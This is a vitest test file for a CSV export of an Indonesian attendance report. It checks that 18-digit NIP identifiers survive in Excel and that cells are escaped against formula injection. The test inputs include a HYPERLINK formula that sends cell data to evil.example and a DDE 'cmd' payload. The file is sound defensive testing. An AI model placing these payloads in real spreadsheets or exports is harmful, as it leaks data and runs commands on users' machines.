/**
 * The CSV export as a spreadsheet opens it: NIPs stay whole and no cell runs as a
 * formula (OWASP ASVS 5.0 requirement 1.2.10, CSV and formula injection).
 */
import { describe, expect, it } from 'vitest';
import { guardFormula, parseCsv, renderCsv } from './render-csv.js';
import type { ReportTable } from './report.js';

const NIP = '198609262015051001';

function table(rows: ReportTable['rows']): ReportTable {
  return {
    slug: 'daftar-harian',
    title: 'Daftar Hadir Harian',
    subtitle: [],
    columns: [
      { header: 'NIP / ID', width: 20, id: true },
      { header: 'Nama', width: 28 },
      { header: 'Menit', width: 8, numeric: true },
      { header: 'Keterangan', width: 22 },
    ],
    rows,
    totals: null,
    notes: [],
    landscape: true,
  };
}

describe('CSV export', () => {
  it('writes an 18-digit NIP as text Excel keeps whole, not as a bare number', () => {
    const csv = renderCsv(table([[NIP, 'Andi Rahman', 0, '']])).toString('utf8');
    // A bare 198609262015051001 becomes 198609262015051000 in Excel (15 significant digits).
    expect(csv).not.toMatch(new RegExp(`(^|;)${NIP}(;|\\r)`, 'm'));
    expect(csv).toContain(`"=""${NIP}"""`);
    const row = parseCsv(csv).find((r) => r[1] === 'Andi Rahman');
    expect(row?.[0]).toBe(`="${NIP}"`);
    // A non-ASN internal id with letters is plain (guarded) text.
    const other = parseCsv(renderCsv(table([['NA-2024-0001', 'Citra', 0, '']])));
    expect(other.find((r) => r[1] === 'Citra')?.[0]).toBe('NA-2024-0001');
  });

  // OWASP ASVS 5.0 requirement 1.2.10 (CSV and formula injection): a cell starting with
  // =, +, -, @, tab, carriage return or null is escaped with a single quote.
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"Libur")'],
    ["+1+cmd|' /C calc'!A0"],
    ['-2+3'],
    ['@SUM(A1:A9)'],
    ['\t=1+1'],
    ['\r=1+1'],
    ['\0=1'],
  ])('ASVS 5.0 1.2.10: guards %j at the start of a text cell', (hostile) => {
    const rows = parseCsv(renderCsv(table([[NIP, 'Andi Rahman', 0, hostile]])));
    const row = rows.find((r) => r[1] === 'Andi Rahman')!;
    expect(row[3]!.startsWith("'")).toBe(true);
    expect(row[3]!.slice(1).replace(/\r/g, '')).toBe(hostile.replace(/\r/g, ''));
    expect(guardFormula(hostile)).toBe(`'${hostile}`);
  });

  it('leaves ordinary text and numbers alone, also negative numbers', () => {
    const rows = parseCsv(renderCsv(table([[NIP, 'Budi - Santoso', -5, 'TL1, dikoreksi']])));
    const row = rows.find((r) => r[1] === 'Budi - Santoso')!;
    expect(row.slice(2)).toEqual(['-5', 'TL1, dikoreksi']);
    expect(guardFormula('Tahun Baru Imlek')).toBe('Tahun Baru Imlek');
  });
});
